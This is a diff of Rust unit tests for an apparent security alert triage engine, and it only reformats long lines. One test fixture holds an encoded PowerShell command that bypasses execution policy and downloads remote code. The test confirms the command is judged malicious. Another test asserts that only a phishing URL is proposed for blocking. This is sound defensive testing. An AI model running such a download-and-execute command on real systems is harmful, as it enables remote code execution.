@@ -33,7 +33,8 @@ fn host_with_command(command: &str) -> AlertEntities {
 #[test]
 fn encoded_powershell_download_is_a_true_positive_with_containment_behind_approval() {
     let alert = alert("Suspicious PowerShell", Severity::Medium, &["Execution"]);
-    let entities = host_with_command("powershell.exe -ExecutionPolicy Bypass -enc SQBFAFgA; (New-Object Net.WebClient).DownloadString('http://x')");
+    let entities =
+        host_with_command("powershell.exe -ExecutionPolicy Bypass -enc SQBFAFgA; (New-Object Net.WebClient).DownloadString('http://x')");
     let verdict = reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None });
     assert_eq!(verdict.classification, Classification::TruePositive);
     assert!(verdict.confidence >= CONTAINMENT_THRESHOLD, "{verdict:?}");
@@ -95,6 +96,7 @@ fn never_proposes_blocking_vendor_or_own_domains() {
         ..Default::default()
     };
     let verdict = reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None });
-    let blocked: Vec<&str> = verdict.recommended_actions.iter().filter(|a| a.action == ActionKind::BlockIndicator).map(|a| a.target.as_str()).collect();
+    let blocked: Vec<&str> =
+        verdict.recommended_actions.iter().filter(|a| a.action == ActionKind::BlockIndicator).map(|a| a.target.as_str()).collect();
     assert_eq!(blocked, vec!["https://evil-login.example.net/owa"]);
 }
